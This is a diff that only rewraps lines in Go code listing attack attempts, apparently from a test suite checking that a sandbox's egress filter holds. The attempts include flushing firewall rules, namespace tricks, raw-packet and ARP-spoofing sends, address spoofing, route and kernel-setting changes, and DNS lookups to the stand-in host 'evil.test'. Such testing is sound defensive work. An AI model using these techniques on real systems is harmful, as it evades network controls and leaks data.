@@ -42,25 +42,36 @@ func privilegeAttacks() []Attack {
 			return all(unix.Setresuid(0, 0, 0), flush())
 		}),
 		wall("su", "su, then flush the rules", "", func(*Agent) error { return runFor(flushLimit, "su", "root", "-c", flushScript) }),
-		{ID: "setuid-program", Family: family, Tries: "a program with root's setuid bit that sends past the packet filter", Source: "sudo in the image, Trail of Bits' template",
-			Leak: func(e Event) bool { return containsWord(e, "leak-packet-socket") }, Do: func(*Agent) error {
+		{ID: "setuid-program", Family: family, Tries: "a program with root's setuid bit that sends past the packet filter",
+			Source: "sudo in the image, Trail of Bits' template",
+			Leak:   func(e Event) bool { return containsWord(e, "leak-packet-socket") }, Do: func(*Agent) error {
 				return again(os.Getenv(SetuidEnv), nil, "packet-socket", "packet-socket-6", "raw-udp")
 			}},
-		wall("user-namespace", "a user namespace of one's own, with all capabilities in it, then flush the rules", "egress-filter, namespaces", func(*Agent) error {
-			return inNamespace(syscall.CLONE_NEWUSER, "/bin/sh", "-c", flushScript)
-		}).vacuous("capabilities in it are none over the network of another"),
-		{ID: "user-namespace-packets", Family: family, Tries: "raw packets from a user namespace of one's own", Vacuous: "capabilities in it are none over the network of another",
+		wall("user-namespace", "a user namespace of one's own, with all capabilities in it, then flush the rules",
+			"egress-filter, namespaces", func(*Agent) error {
+				return inNamespace(syscall.CLONE_NEWUSER, "/bin/sh", "-c", flushScript)
+			}).vacuous("capabilities in it are none over the network of another"),
+		{ID: "user-namespace-packets", Family: family, Tries: "raw packets from a user namespace of one's own",
+			Vacuous: "capabilities in it are none over the network of another",
 			Do: func(*Agent) error {
-				return again("/proc/self/exe", &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: mapping(), GidMappings: groupMapping()}, "packet-socket", "raw-udp", "icmp-raw", "arp-spoof")
+				return again("/proc/self/exe",
+					&syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: mapping(), GidMappings: groupMapping()}, "packet-socket",
+					"raw-udp", "icmp-raw", "arp-spoof")
 			}},
-		{ID: "user-namespace-dns", Family: family, Tries: "questions as root of a user namespace: root may ask where an engine has its resolver", Leak: asked("evil.test"),
+		{ID: "user-namespace-dns", Family: family, Tries: "questions as root of a user namespace: root may ask where an engine has its resolver",
+			Leak: asked("evil.test"),
 			Do: func(*Agent) error {
-				return again("/proc/self/exe", &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: mapping(), GidMappings: groupMapping()}, "dns-udp-public", "dns-tcp-public", "dns-udp-upstream")
+				return again("/proc/self/exe",
+					&syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: mapping(), GidMappings: groupMapping()}, "dns-udp-public",
+					"dns-tcp-public", "dns-udp-upstream")
 			}},
-		{ID: "network-namespace", Family: family, Tries: "a network namespace of one's own", Vacuous: "it has no way out", Do: func(*Agent) error {
-			return again("/proc/self/exe", &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET, UidMappings: mapping(), GidMappings: groupMapping()}, "udp4", "tcp4")
-		}},
-		{ID: "ip-netns", Family: family, Tries: "the network namespaces of other processes, and named ones", Vacuous: "it would reach the machine that the tests run on",
+		{ID: "network-namespace", Family: family, Tries: "a network namespace of one's own", Vacuous: "it has no way out",
+			Do: func(*Agent) error {
+				return again("/proc/self/exe", &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET, UidMappings: mapping(),
+					GidMappings: groupMapping()}, "udp4", "tcp4")
+			}},
+		{ID: "ip-netns", Family: family, Tries: "the network namespaces of other processes, and named ones",
+			Vacuous: "it would reach the machine that the tests run on",
 			Do: func(*Agent) error {
 				paths, _ := filepath.Glob("/run/netns/*")
 				var failed []error
@@ -69,16 +80,19 @@ func privilegeAttacks() []Attack {
 				}
 				return all(failed...)
 			}},
-		{ID: "socket-mark", Family: family, Tries: "the mark of the resolver's packets on one's own", Needs: "NET_ADMIN", Do: func(a *Agent) error {
-			return send("udp", system, pack(query(a.word+".evil.test", typeA)), func(fd int) error {
-				return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, firewallMark)
-			})
-		}},
-		{ID: "transparent", Family: family, Tries: "somebody else's address as one's own (IP_TRANSPARENT)", Needs: "NET_ADMIN", Do: func(a *Agent) error {
-			return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, func(fd int) error {
-				return all(unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_TRANSPARENT, 1), unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 98}}))
-			})
-		}},
+		{ID: "socket-mark", Family: family, Tries: "the mark of the resolver's packets on one's own", Needs: "NET_ADMIN",
+			Do: func(a *Agent) error {
+				return send("udp", system, pack(query(a.word+".evil.test", typeA)), func(fd int) error {
+					return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, firewallMark)
+				})
+			}},
+		{ID: "transparent", Family: family, Tries: "somebody else's address as one's own (IP_TRANSPARENT)", Needs: "NET_ADMIN",
+			Do: func(a *Agent) error {
+				return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, func(fd int) error {
+					return all(unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_TRANSPARENT, 1),
+						unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 98}}))
+				})
+			}},
 		wall("tun-device", "a network device of one's own", "", func(a *Agent) error {
 			fd, err := unix.Open("/dev/net/tun", unix.O_RDWR|unix.O_CLOEXEC, 0)
 			if err != nil {
@@ -104,7 +118,8 @@ func privilegeAttacks() []Attack {
 				version, flags   uint32
 				name             [16]byte
 				ifindex, expects uint32
-			}{kind: 8 /* BPF_PROG_TYPE_CGROUP_SKB */, count: 2, insns: uint64(uintptr(unsafe.Pointer(&code[0]))), licence: uint64(uintptr(unsafe.Pointer(&licence[0])))}
+			}{kind: 8 /* BPF_PROG_TYPE_CGROUP_SKB */, count: 2, insns: uint64(uintptr(unsafe.Pointer(&code[0]))),
+				licence: uint64(uintptr(unsafe.Pointer(&licence[0])))}
 			// The kernel gives up when a signal is pending, as Go's own ones may be.
 			fd, errno := uintptr(0), unix.EAGAIN
 			for tries := 0; errno == unix.EAGAIN && tries < 100; tries++ {
@@ -156,7 +171,8 @@ func wallAttacks() []Attack {
 			if err != nil {
 				return err
 			}
-			return netlink.RouteReplace(&netlink.Route{LinkIndex: link.Attrs().Index, Dst: &net.IPNet{IP: a.v4.AsSlice(), Mask: net.CIDRMask(32, 32)}, Gw: net.ParseIP(gatewayAddr)})
+			return netlink.RouteReplace(&netlink.Route{LinkIndex: link.Attrs().Index,
+				Dst: &net.IPNet{IP: a.v4.AsSlice(), Mask: net.CIDRMask(32, 32)}, Gw: net.ParseIP(gatewayAddr)})
 		}).holds(),
 		wall("kernel-settings", "the kernel's settings of this network", "", func(*Agent) error {
 			return all(write("/proc/sys/net/ipv4/ip_forward", "1"), write("/proc/sys/net/ipv4/conf/all/route_localnet", "1"))
@@ -243,11 +259,12 @@ func lifeAttacks() []Attack {
 	event := func(id, tries, event string) Attack {
 		return Attack{ID: id, Family: family, Tries: tries, Event: event, Do: (*Agent).hammer}
 	}
-	expired := Attack{ID: "expired-address", Family: family, Tries: "an address whose time is over, which may be somebody else's by now", Slow: true, Do: func(a *Agent) error {
-		err := learn("ok.test")
-		time.Sleep(70 * time.Second) // least time to live 5 s, 60 s of grace, and some
-		return all(err, shake(at(okAddr, 443), "ok.test"), a.tcp(at(okAddr, 443)))
-	}}
+	expired := Attack{ID: "expired-address", Family: family, Tries: "an address whose time is over, which may be somebody else's by now",
+		Slow: true, Do: func(a *Agent) error {
+			err := learn("ok.test")
+			time.Sleep(70 * time.Second) // least time to live 5 s, 60 s of grace, and some
+			return all(err, shake(at(okAddr, 443), "ok.test"), a.tcp(at(okAddr, 443)))
+		}}
 	expired.Leak = site(okAddr, "ok.test")
 	return []Attack{
 		event("first-instruction", "try everything from the very first moment on", "start"),
